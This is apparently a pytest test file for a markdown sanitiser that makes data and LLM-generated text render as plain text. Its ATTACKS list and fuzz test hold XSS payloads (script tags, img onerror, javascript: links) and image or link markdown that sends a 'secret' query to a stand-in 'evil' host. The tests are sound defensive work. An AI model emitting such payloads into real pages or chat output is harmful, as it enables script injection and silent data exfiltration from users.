"""safe_markdown: data and LLM text render as text, never as HTML, links or remote images."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lumiere.services.markdown_safety import safe_markdown
from tests.helpers.markdown import RENDER, assert_inert

ATTACKS = [
    "![x](http://evil/?q=secret)",
    "![x][1]\n\n[1]: http://evil/?q=secret",
    "[click](javascript:alert(1))",
    "[click][ref]\n\n[ref]: https://evil.example/steal",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='http://evil'>x</a>",
    "<http://evil/?q=secret>",
    "<evil@example.com>",
    "see http://evil/?q=secret now",
    "see www.evil.example/q now",
    "mail evil@example.com now",
    "`a\n`<img src=x onerror=alert(1)>`",
    "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)> ` |",
    "\\\\<img src=x onerror=alert(1)>",
    "<!-- comment --><iframe src=http://evil></iframe>",
    "```\n<script>alert(1)</script>\n```",
    "~~~html\n<img src=http://evil>\n~~~",
    "&lt;script&gt; stays text",
    "![x](<http://evil/?q=secret>)",
    "[x]: <http://evil> 'title'\n\n[x]",
    "_http://evil/?q=secret_ and *www.evil.example*",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_render_as_text(attack: str) -> None:
    assert_inert(safe_markdown(attack))


def test_an_image_cell_shows_as_its_own_text() -> None:
    html = RENDER(safe_markdown("Top item: ![x](http://evil/?q=secret) with 1,234"))
    assert "<img" not in html and "<a" not in html
    assert html == "<p>Top item: ![x](<code>http://evil/?q=secret</code>) with 1,234</p>\n"


def test_script_shows_as_text() -> None:
    html = RENDER(safe_markdown("<script>alert('x')</script>"))
    assert "<script" not in html
    assert "&lt;script&gt;alert('x')&lt;/script&gt;" in html


def test_ordinary_markdown_is_kept() -> None:
    text = "## Summary\n\n- **Total** tips: 731.58\n- *Largest*: Sat (260.4, 35.6%)\n\n> a quote\n\n1. one"
    assert safe_markdown(text) == text
    html = RENDER(safe_markdown(text))
    assert "<h2>" in html and "<strong>Total</strong>" in html and "<em>Largest</em>" in html


def test_applying_twice_changes_nothing() -> None:
    for attack in ATTACKS:
        once = safe_markdown(attack)
        assert safe_markdown(once) == once


def test_control_characters_are_removed_and_newlines_normalised() -> None:
    assert safe_markdown("a\x00b\r\nc\x1bd") == "ab\ncd"


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                "[",
                "]",
                "(",
                ")",
                "!",
                "`",
                "``",
                "\\",
                "\n",
                "|",
                " ",
                "http://e.v/?q=1",
                "www.e.v",
                "a@e.v",
                "img src=x",
                "script",
                "javascript:",
                "*",
                "_",
                "&",
                "#",
                "a",
                "-",
            ]
        ),
        max_size=40,
    ).map("".join)
)
def test_no_sequence_of_markdown_syntax_escapes(text: str) -> None:
    once = safe_markdown(text)
    assert_inert(once)
    assert safe_markdown(once) == once
